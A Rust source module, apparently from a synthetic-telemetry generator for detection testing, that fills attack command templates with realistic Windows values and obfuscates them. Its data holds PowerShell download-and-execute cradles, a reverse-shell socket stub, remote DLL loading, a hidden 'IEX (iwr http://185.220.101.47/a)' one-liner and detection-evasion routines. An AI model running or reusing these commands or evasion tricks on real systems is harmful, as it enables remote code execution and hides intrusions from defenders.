//! Filling command-line placeholders with realistic values, and obfuscating attack
//! command lines the way real operators do.
//!
//! Placeholder syntax is LOLBAS's: `{KIND}` or `{KIND:.ext}` (Atomic Red Team's `#{arg}`
//! is rewritten into it when the reference is loaded). Kinds: `REMOTEURL`, `PATH`,
//! `PATH_ABSOLUTE`, `PATH_SMB`, `CMD`, `PID`, `IP`, `HOST`, `SERVER`, `DC`, `USER`,
//! `DOMAIN`, `GUID`, `B64`, `N`, `WORD`, `TEMP`, `PORT`, `HEX`. Unknown kinds become a
//! plausible word rather than an error, because reference files are not under our control.

use super::world::{DNS_DOMAIN, DOMAIN};
use rand::Rng;
use rand_chacha::ChaCha8Rng;
use std::fmt::Write;

/// Values the filler needs from the current host-day.
pub struct FillCtx<'a> {
    pub user: &'a str,
    pub host: &'a str,
    pub peer: &'a str,
    pub dc: &'a str,
}

const WORDS: &[&str] = &[
    "update",
    "invoice",
    "report",
    "setup",
    "config",
    "data",
    "helper",
    "sync",
    "backup",
    "client",
    "agent",
    "service",
    "payroll",
    "q3_results",
    "scan",
    "patch",
    "driver",
    "notes",
    "install",
    "temp",
    "cache",
    "log",
    "svc",
    "msupdate",
    "chrome_upd",
    "onedrive_sync",
];
const DOMAINS: &[&str] = &[
    "cdn-updates.net",
    "files.azureedge-cdn.com",
    "raw.githubusercontent.com",
    "pastebin.com",
    "transfer.sh",
    "storage.googleapis.com",
    "sharepoint-docs.online",
    "ms-office365.cloud",
    "185.220.101.47",
    "45.137.21.9",
    "update.windows-cdn.org",
    "dl.dropboxusercontent.com",
];
const PS_SNIPPETS: &[&str] = &[
    "IEX (New-Object Net.WebClient).DownloadString('http://{REMOTEURL}')",
    "$c=New-Object System.Net.Sockets.TCPClient('{IP}',443);$s=$c.GetStream()",
    "Start-Process -WindowStyle Hidden {PATH_ABSOLUTE:.exe}",
    "[Reflection.Assembly]::Load((New-Object Net.WebClient).DownloadData('{REMOTEURL:.dll}'))",
    "Get-Process | Out-File {TEMP}\\p.txt; Get-Service | Out-File -Append {TEMP}\\p.txt",
    "Get-CimInstance Win32_OperatingSystem | Select-Object Caption,Version",
    "Invoke-WebRequest -Uri https://intranet.corp.contoso.com/api/inventory -Method Post -UseDefaultCredentials",
];

fn word(rng: &mut ChaCha8Rng) -> &'static str {
    WORDS[rng.random_range(0..WORDS.len())]
}

/// Substitute every `{KIND[:ext]}` in `template`. Braces that do not form a placeholder
/// (PowerShell blocks, GUIDs) are copied unchanged.
pub fn fill(template: &str, rng: &mut ChaCha8Rng, cx: &FillCtx<'_>) -> String {
    let mut out = String::with_capacity(template.len() + 48);
    let mut rest = template;
    while let Some(open) = rest.find('{') {
        out.push_str(&rest[..open]);
        let after = &rest[open + 1..];
        let close = after.find('}');
        let inner = close.map(|c| &after[..c]);
        match inner {
            Some(inner) if is_placeholder(inner) => {
                let (kind, ext) = inner.split_once(':').unwrap_or((inner, ""));
                value(&mut out, kind, ext, rng, cx, 0);
                rest = &after[inner.len() + 1..];
            }
            _ => {
                out.push('{');
                rest = after;
            }
        }
    }
    out.push_str(rest);
    out
}

fn is_placeholder(inner: &str) -> bool {
    let kind = inner.split(':').next().unwrap_or("");
    !kind.is_empty()
        && kind.len() <= 16
        && kind.as_bytes()[0].is_ascii_uppercase()
        && kind
            .bytes()
            .all(|b| b.is_ascii_uppercase() || b.is_ascii_digit() || b == b'_')
}

fn value(
    out: &mut String,
    kind: &str,
    ext: &str,
    rng: &mut ChaCha8Rng,
    cx: &FillCtx<'_>,
    depth: u8,
) {
    let ext = if ext == "folder" { "" } else { ext };
    let ext = ext
        .rsplit('.')
        .next()
        .map(|e| if e.is_empty() { "" } else { e })
        .unwrap_or("");
    let dot = if ext.is_empty() { "" } else { "." };
    match kind {
        "REMOTEURL" => {
            let d = DOMAINS[rng.random_range(0..DOMAINS.len())];
            let scheme = if rng.random_bool(0.7) {
                "https"
            } else {
                "http"
            };
            let e = if ext.is_empty() { "bin" } else { ext };
            let _ = write!(
                out,
                "{scheme}://{d}/{}/{}{}.{e}",
                word(rng),
                word(rng),
                rng.random_range(1..99)
            );
        }
        "PATH" | "PATH_ABSOLUTE" if cx.user.contains(' ') || cx.user == "SYSTEM" => {
            let dir = [
                r"C:\Windows\Temp",
                r"C:\ProgramData",
                r"C:\Users\Public",
                r"C:\Windows\Tasks",
            ][rng.random_range(0..4)];
            let _ = write!(out, r"{dir}\{}{dot}{ext}", word(rng));
        }
        "PATH" | "PATH_ABSOLUTE" => {
            let dir = match rng.random_range(0..6) {
                0 => format!(r"C:\Users\{}\AppData\Local\Temp", cx.user),
                1 => r"C:\ProgramData".to_owned(),
                2 => r"C:\Users\Public".to_owned(),
                3 => format!(r"C:\Users\{}\Downloads", cx.user),
                4 => format!(r"C:\Users\{}\AppData\Roaming\Microsoft", cx.user),
                _ => r"C:\Windows\Temp".to_owned(),
            };
            let _ = write!(out, r"{dir}\{}{dot}{ext}", word(rng));
        }
        "PATH_SMB" => {
            let _ = write!(
                out,
                r"\\{}\{}$\{}{dot}{ext}",
                cx.peer,
                if rng.random_bool(0.5) { "C" } else { "ADMIN" },
                word(rng)
            );
        }
        "TEMP" if cx.user.contains(' ') || cx.user == "SYSTEM" => out.push_str(r"C:\Windows\Temp"),
        "TEMP" => {
            let _ = write!(out, r"C:\Users\{}\AppData\Local\Temp", cx.user);
        }
        "CMD" => {
            let c = match rng.random_range(0..4) {
                0 => "cmd.exe /c whoami /all".to_owned(),
                1 => format!(r"C:\Users\{}\AppData\Local\Temp\{}.exe", cx.user, word(rng)),
                2 => {
                    "powershell -nop -w hidden -ep bypass -c \"IEX (iwr http://185.220.101.47/a)\""
                        .to_owned()
                }
                _ => format!(r"C:\ProgramData\{}.exe", word(rng)),
            };
            out.push_str(&c);
        }
        "PID" => {
            let _ = write!(out, "{}", rng.random_range(100..9000) * 4);
        }
        "IP" => {
            let _ = write!(
                out,
                "{}.{}.{}.{}",
                rng.random_range(11..223),
                rng.random_range(0..255),
                rng.random_range(0..255),
                rng.random_range(1..254)
            );
        }
        "HOST" => out.push_str(cx.peer),
        "SERVER" => out.push_str(cx.peer),
        "DC" => out.push_str(cx.dc),
        "USER" => out.push_str(cx.user),
        "DOMAIN" => out.push_str(if rng.random_bool(0.5) {
            DOMAIN
        } else {
            DNS_DOMAIN
        }),
        "GUID" => {
            let h: u128 = rng.random();
            out.push_str(&super::world::uuid_from(h).to_ascii_uppercase());
        }
        "HEX" => {
            let _ = write!(out, "{:x}", rng.random::<u32>());
        }
        "N" => {
            let _ = write!(out, "{}", rng.random_range(1..60));
        }
        "PORT" => {
            let _ = write!(
                out,
                "{}",
                [443, 8080, 8443, 4444, 80, 53][rng.random_range(0..6)]
            );
        }
        "B64" => {
            if depth > 0 {
                out.push_str("SQBFAFgA");
                return;
            }
            let snippet = PS_SNIPPETS[rng.random_range(0..PS_SNIPPETS.len())];
            let mut inner = String::new();
            // Snippets hold placeholders themselves; fill them one level deep.
            let mut tmp = snippet;
            while let Some(o) = tmp.find('{') {
                inner.push_str(&tmp[..o]);
                let a = &tmp[o + 1..];
                match a.find('}') {
                    Some(c) if is_placeholder(&a[..c]) => {
                        let (k, e) = a[..c].split_once(':').unwrap_or((&a[..c], ""));
                        value(&mut inner, k, e, rng, cx, depth + 1);
                        tmp = &a[c + 1..];
                    }
                    _ => {
                        inner.push('{');
                        tmp = a;
                    }
                }
            }
            inner.push_str(tmp);
            base64_utf16le(out, &inner);
        }
        _ => out.push_str(word(rng)),
    }
}

/// PowerShell's `-EncodedCommand` encoding: base64 of UTF-16LE.
pub fn base64_utf16le(out: &mut String, s: &str) {
    const T: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let bytes: Vec<u8> = s.encode_utf16().flat_map(|u| u.to_le_bytes()).collect();
    for chunk in bytes.chunks(3) {
        let b = [
            chunk[0],
            *chunk.get(1).unwrap_or(&0),
            *chunk.get(2).unwrap_or(&0),
        ];
        let n = (u32::from(b[0]) << 16) | (u32::from(b[1]) << 8) | u32::from(b[2]);
        out.push(T[(n >> 18) as usize & 63] as char);
        out.push(T[(n >> 12) as usize & 63] as char);
        out.push(if chunk.len() > 1 {
            T[(n >> 6) as usize & 63] as char
        } else {
            '='
        });
        out.push(if chunk.len() > 2 {
            T[n as usize & 63] as char
        } else {
            '='
        });
    }
}

/// Obfuscation styles seen in the wild; each keeps the command runnable by cmd.exe.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Obfuscation {
    Carets,
    Case,
    EnvVars,
    Quotes,
}

/// Apply one obfuscation style to the first word of each command segment (the binary name
/// is what detections key on) and to switches.
pub fn obfuscate(cmd: &str, style: Obfuscation, rng: &mut ChaCha8Rng) -> String {
    match style {
        Obfuscation::EnvVars => {
            // One substitution, first match wins, so variables never nest into nonsense.
            const SUBS: &[(&str, &str)] = &[
                (r"C:\Users\Public", "%PUBLIC%"),
                (r"C:\ProgramData", "%ProgramData%"),
                (r"C:\Windows\System32\cmd.exe", "%COMSPEC%"),
                (r"C:\Windows\system32\cmd.exe", "%COMSPEC%"),
                (r"C:\Windows\System32\", r"%SystemRoot%\System32\"),
                (r"C:\Windows\system32\", r"%windir%\system32\"),
                ("cmd.exe", "%COMSPEC%"),
                (
                    "powershell",
                    r"%SystemRoot%\System32\WindowsPowerShell\v1.0\powershell",
                ),
            ];
            match SUBS.iter().find(|(from, _)| cmd.contains(from)) {
                Some((from, to)) => cmd.replacen(from, to, 1),
                None => cmd.to_owned(),
            }
        }
        Obfuscation::Case => cmd
            .chars()
            .map(|c| {
                if c.is_ascii_alphabetic() && rng.random_bool(0.4) {
                    if c.is_ascii_lowercase() {
                        c.to_ascii_uppercase()
                    } else {
                        c.to_ascii_lowercase()
                    }
                } else {
                    c
                }
            })
            .collect(),
        Obfuscation::Carets | Obfuscation::Quotes => {
            // Only touch letters outside existing quotes and outside base64 blobs.
            let mut out = String::with_capacity(cmd.len() + 16);
            let mut in_q = false;
            let mut word_len = 0usize;
            for c in cmd.chars() {
                if c == '"' {
                    in_q = !in_q;
                }
                if c.is_ascii_alphabetic() {
                    word_len += 1;
                } else {
                    word_len = 0;
                }
                if !in_q
                    && c.is_ascii_alphabetic()
                    && word_len > 1
                    && word_len < 12
                    && rng.random_bool(0.25)
                {
                    match style {
                        Obfuscation::Carets => out.push('^'),
                        _ => {
                            out.push_str("\"\"");
                        }
                    }
                }
                out.push(c);
            }
            out
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use rand::SeedableRng;

    fn cx() -> FillCtx<'static> {
        FillCtx {
            user: "mary.lee",
            host: "WKS-1",
            peer: "SRV-APP01",
            dc: "DC01",
        }
    }

    #[test]
    fn placeholders_are_all_replaced_and_other_braces_kept() {
        let mut rng = ChaCha8Rng::seed_from_u64(3);
        let s = fill(
            "certutil.exe -urlcache -f {REMOTEURL:.exe} {PATH:.exe} & ps {$_} {GUID} -enc {B64}",
            &mut rng,
            &cx(),
        );
        assert!(!s.contains("{B64}"), "{s}");
        assert!(!s.contains("{REMOTEURL"), "{s}");
        assert!(!s.contains("{PATH"), "{s}");
        assert!(s.contains("{$_}"), "{s}");
        assert!(s.contains(".exe"), "{s}");
    }

    #[test]
    fn base64_matches_powershell_encoding() {
        let mut s = String::new();
        base64_utf16le(&mut s, "whoami");
        assert_eq!(s, "dwBoAG8AYQBtAGkA");
    }

    #[test]
    fn obfuscation_changes_text_but_not_letters() {
        let mut rng = ChaCha8Rng::seed_from_u64(9);
        let c = "cmd.exe /c powershell -nop -w hidden -c whoami";
        let o = obfuscate(c, Obfuscation::Carets, &mut rng);
        assert_ne!(o, c);
        assert_eq!(o.replace('^', ""), c);
        let q = obfuscate(c, Obfuscation::Quotes, &mut rng);
        assert_eq!(q.replace('"', ""), c);
        let k = obfuscate(c, Obfuscation::Case, &mut rng);
        assert_eq!(k.to_ascii_lowercase(), c);
    }
}
